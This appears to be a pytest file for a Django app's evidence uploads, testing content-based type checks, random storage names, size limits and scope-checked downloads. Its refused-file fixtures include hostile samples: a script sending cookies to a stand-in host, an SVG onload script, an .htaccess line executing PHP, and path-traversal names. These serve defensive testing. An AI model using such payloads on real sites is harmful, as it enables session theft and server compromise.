"""Evidence files: only document types checked by content, at most EVIDENCE_MAX_BYTES,
stored under a random name, downloaded only through the scope-checked view as an
attachment (issue 13)."""

import datetime
import io
import re
import zipfile

import openpyxl
import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image
from reportlab.pdfgen import canvas

from targets.domain import evidence, services
from targets.domain.models import ProgressEntry

pytestmark = pytest.mark.django_db

S = ProgressEntry.Status
NOV = datetime.date(2022, 11, 30)
STORED_NAME = re.compile(r"evidence/[0-9a-f]{32}\.(pdf|png|jpg|docx|xlsx|odt|ods)")


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def stored_files(media_root):
    return sorted(p for p in media_root.rglob("*") if p.is_file()) if media_root.exists() else []


# Real files, made by the libraries that write them.


def pdf_bytes(text="Báo cáo minh chứng"):
    out = io.BytesIO()
    page = canvas.Canvas(out, invariant=1)  # the same bytes every time
    page.drawString(72, 720, text)
    page.save()
    return out.getvalue()


def image_bytes(kind):
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(out, format=kind)
    return out.getvalue()


def xlsx_bytes():
    book = openpyxl.Workbook()
    book.active["A1"] = "Tỷ lệ hồ sơ trực tuyến"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def package(parts):
    """A ZIP package of ``parts`` (name -> text), in that order."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return out.getvalue()


def docx_bytes():
    return package(
        {
            "[Content_Types].xml": '<?xml version="1.0"?><Types/>',
            "_rels/.rels": '<?xml version="1.0"?><Relationships/>',
            "word/document.xml": '<?xml version="1.0"?><w:document/>',
        }
    )


def odt_bytes():
    return package(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": '<?xml version="1.0"?><office:document-content/>',
        }
    )


ACCEPTED = {
    "bao-cao.pdf": pdf_bytes,
    "anh.png": lambda: image_bytes("PNG"),
    "anh.JPEG": lambda: image_bytes("JPEG"),
    "so-lieu.xlsx": xlsx_bytes,
    "van-ban.docx": docx_bytes,
    "van-ban.odt": odt_bytes,
}

HTML = b"<!doctype html><html><script>fetch('/admin/')</script></html>"
REFUSED = {
    "trang.html": HTML,
    "trang-gia-pdf.pdf": HTML,  # the name lies about the content
    "hinh.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "ma.js": b"document.location='https://example.invalid/'+document.cookie",
    ".htaccess": b"AddType application/x-httpd-php .pdf",
    "anh-gia.png": pdf_bytes(),  # a PDF named as an image
    "nen.zip": package({"a.txt": "x"}),
    "rong.docx": package({"[Content_Types].xml": "<Types/>"}),  # no document part
    "macro.docx": package(
        {"[Content_Types].xml": "<Types/>", "word/document.xml": "<d/>", "word/vbaProject.bin": "x"}
    ),
    "cu.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 1024,  # legacy binary Office
}


@pytest.fixture
def draft(make_entry, target, unit, cast):
    return make_entry(
        target("CQS-03c"),
        unit("11329"),
        NOV,
        numerator=1,
        denominator=2,
        status=S.DRAFT,
        user=cast.commune_reporter,
    )


def attach(entry, user, name, content):
    entry.evidence_file = SimpleUploadedFile(name, content)
    return services.entry_update(entry=entry, user=user, expected_version=entry.version)


def change_url(entry):
    return reverse("admin:targets_progressentry_change", args=[entry.pk])


def admin_form(entry, upload=None):
    data = {
        "target": entry.target_id,
        "unit": entry.unit_id,
        "period_end": entry.period_end.strftime("%d/%m/%Y"),
        "numerator": "1",
        "denominator": "2",
        "value": "",
        "note": "",
        "evidence_url": "",
        "seen_version": str(entry.version),
    }
    if upload is not None:
        data["evidence_file"] = upload
    return data


@pytest.mark.parametrize("name", ACCEPTED)
def test_document_types_are_accepted_by_content(name, draft, cast, media_root):
    content = ACCEPTED[name]()
    entry = attach(draft, cast.commune_reporter, name, content)
    entry.refresh_from_db()
    assert STORED_NAME.fullmatch(entry.evidence_file.name), entry.evidence_file.name
    assert stored_files(media_root) == [media_root / entry.evidence_file.name]
    assert (media_root / entry.evidence_file.name).read_bytes() == content


@pytest.mark.parametrize("name", REFUSED)
def test_hostile_files_are_refused_and_nothing_is_stored(name, draft, cast, client, media_root):
    client.force_login(cast.commune_reporter)
    upload = SimpleUploadedFile(name, REFUSED[name], content_type="application/pdf")
    response = client.post(change_url(draft), admin_form(draft, upload))
    assert response.status_code == 200
    assert "không được nhận" in response.content.decode()
    draft.refresh_from_db()
    assert (draft.evidence_file.name, draft.version) == ("", 1)
    assert stored_files(media_root) == []


def test_oversized_file_is_refused_with_the_limit(draft, cast, client, media_root):
    # A real PDF padded past the default limit (10 MB): still a PDF by its content.
    content = pdf_bytes() + b"\n" * (10 * 1024 * 1024)
    client.force_login(cast.commune_reporter)
    upload = SimpleUploadedFile("lon.pdf", content)
    response = client.post(change_url(draft), admin_form(draft, upload))
    assert response.status_code == 200
    assert "Tệp minh chứng lớn quá (10,0\xa0MB); tối đa 10,0\xa0MB." in response.content.decode()
    draft.refresh_from_db()
    assert draft.evidence_file.name == ""
    assert stored_files(media_root) == []


def test_the_limit_is_a_setting(draft, cast, settings):
    from django.core.exceptions import ValidationError

    settings.EVIDENCE_MAX_BYTES = 1000
    draft.evidence_file = ContentFile(pdf_bytes(), name="nho.pdf")  # about 1.3 kB
    with pytest.raises(ValidationError, match="lớn quá"):
        services.entry_update(entry=draft, user=cast.commune_reporter, expected_version=1)


def test_services_refuse_what_the_form_refuses(draft, cast, media_root):
    from django.core.exceptions import ValidationError

    draft.evidence_file = ContentFile(HTML, name="x.html")
    with pytest.raises(ValidationError) as refused:
        services.entry_update(entry=draft, user=cast.commune_reporter, expected_version=1)
    assert "evidence_file" in refused.value.message_dict
    assert stored_files(media_root) == []


def test_upload_through_the_admin_is_stored_under_a_random_name_and_linked_to_the_view(
    draft, cast, client, media_root
):
    client.force_login(cast.commune_reporter)
    upload = SimpleUploadedFile("Bao cao Q4 May Chai.pdf", pdf_bytes())
    response = client.post(change_url(draft), admin_form(draft, upload))
    assert response.status_code == 302
    draft.refresh_from_db()
    name = draft.evidence_file.name
    assert STORED_NAME.fullmatch(name) and "May" not in name
    page = client.get(change_url(draft)).content.decode()
    link = reverse("targets:evidence", kwargs={"name": name.removeprefix("evidence/")})
    assert f'href="{link}"' in page
    assert "/media/" not in page
    assert 'accept=".docx,.jpeg,.jpg,.ods,.odt,.pdf,.png,.xlsx"' in page


def test_two_uploads_of_the_same_file_get_different_names(make_entry, target, unit, cast):
    names = set()
    for day in (datetime.date(2022, 10, 31), NOV):
        entry = make_entry(
            target("CQS-03c"), unit("11329"), day, numerator=1, denominator=2, status=S.DRAFT
        )
        names.add(attach(entry, cast.commune_reporter, "a.pdf", pdf_bytes()).evidence_file.name)
    assert len(names) == 2


# Downloads.


@pytest.fixture
def with_file(draft, cast):
    entry = attach(draft, cast.commune_reporter, "bien-ban.pdf", pdf_bytes())
    return entry


def download_url(entry):
    return reverse(
        "targets:evidence", kwargs={"name": entry.evidence_file.name.removeprefix("evidence/")}
    )


def test_download_is_an_attachment_that_is_never_sniffed(with_file, cast, client):
    client.force_login(cast.commune_reporter)
    response = client.get(download_url(with_file))
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == pdf_bytes()
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == (
        'attachment; filename="minh-chung_CQS-03c_11329_2022-11-30.pdf"'
    )
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]


@pytest.mark.parametrize(
    "mode, header, value",
    [
        ("x-accel-redirect", "X-Accel-Redirect", "/protected-media/{name}"),
        ("x-sendfile", "X-Sendfile", "/srv/tracker-media/{name}"),
    ],
)
def test_in_production_the_proxy_sends_the_file(
    mode, header, value, with_file, cast, client, settings
):
    settings.EVIDENCE_SENDFILE = mode
    settings.EVIDENCE_SENDFILE_PREFIX = value.split("{")[0]
    client.force_login(cast.commune_reporter)
    response = client.get(download_url(with_file))
    assert response.status_code == 200
    assert response[header] == value.format(name=with_file.evidence_file.name)
    assert response.content == b""
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"


READERS = {
    # who: status the entry is in -> expected answer
    "commune_reporter": {S.DRAFT: 200, S.APPROVED: 200},
    "reporter": {S.DRAFT: 200, S.APPROVED: 200},  # district 304, above the commune
    "reviewer": {S.DRAFT: 404, S.SUBMITTED: 200},  # drafts are the reporter's own
    "viewer": {S.DRAFT: 404, S.APPROVED: 200},  # reads the approved figure on the pages
    "city_viewer": {S.SUBMITTED: 404, S.APPROVED: 200},
    "plan_admin": {S.DRAFT: 200},
    "agency_reporter": {S.DRAFT: 404, S.APPROVED: 404},  # another unit's reporter
}


@pytest.mark.parametrize(
    "who, status", [(who, status) for who, answers in READERS.items() for status in answers]
)
def test_download_follows_the_scope_of_the_entry(who, status, with_file, cast, client):
    ProgressEntry.objects.filter(pk=with_file.pk).update(status=status)
    client.force_login(getattr(cast, who))
    assert client.get(download_url(with_file)).status_code == READERS[who][status]


def test_another_districts_reporter_gets_404(with_file, client, make_user):
    client.force_login(make_user("le.chan", staff=True, memberships=[("303", "reporter")]))
    response = client.get(download_url(with_file))
    assert response.status_code == 404
    assert b"%PDF" not in response.content


def test_download_needs_a_login(with_file, client):
    response = client.get(download_url(with_file))
    assert response.status_code == 302 and "/login/" in response["Location"]


@pytest.mark.parametrize(
    "name", ["khong-co.pdf", "../../tracker/settings.py", "a" * 400, "x/../y.pdf"]
)
def test_unknown_or_hostile_names_answer_404(name, with_file, cast, client):
    client.force_login(cast.commune_reporter)
    assert client.get(f"/minh-chung/{name}").status_code == 404


def test_a_nul_byte_in_the_name_is_refused_by_the_request_guard(with_file, cast, client):
    client.force_login(cast.commune_reporter)
    assert client.get("/minh-chung/%00.pdf").status_code == 400


def test_no_media_url_serves_files(with_file, cast, client):
    client.force_login(cast.commune_reporter)
    assert client.get("/media/" + with_file.evidence_file.name).status_code == 404


def test_a_file_missing_from_disk_answers_404(with_file, cast, client, media_root):
    (media_root / with_file.evidence_file.name).unlink()
    client.force_login(cast.commune_reporter)
    assert client.get(download_url(with_file)).status_code == 404


def test_detection_reads_content_not_names():
    assert evidence.detected_extension(io.BytesIO(pdf_bytes())) == ".pdf"
    assert evidence.detected_extension(io.BytesIO(xlsx_bytes())) == ".xlsx"
    assert evidence.detected_extension(io.BytesIO(HTML)) is None
    assert evidence.detected_extension(io.BytesIO(b"PK\x03\x04broken")) is None


def test_evidence_settings_come_from_the_environment():
    from tests.test_security import _production_env, _setting

    assert _setting("EVIDENCE_MAX_BYTES", _production_env()).stdout.strip() == "10485760"
    env = _production_env(EVIDENCE_MAX_BYTES="5000000", EVIDENCE_SENDFILE="x-accel-redirect")
    assert _setting("EVIDENCE_MAX_BYTES", env).stdout.strip() == "5000000"
    assert _setting("EVIDENCE_SENDFILE_PREFIX", env).stdout.strip() == "'/protected-media/'"
    wrong = _setting("EVIDENCE_SENDFILE", _production_env(EVIDENCE_SENDFILE="apache"))
    assert wrong.returncode != 0 and "EVIDENCE_SENDFILE" in wrong.stderr
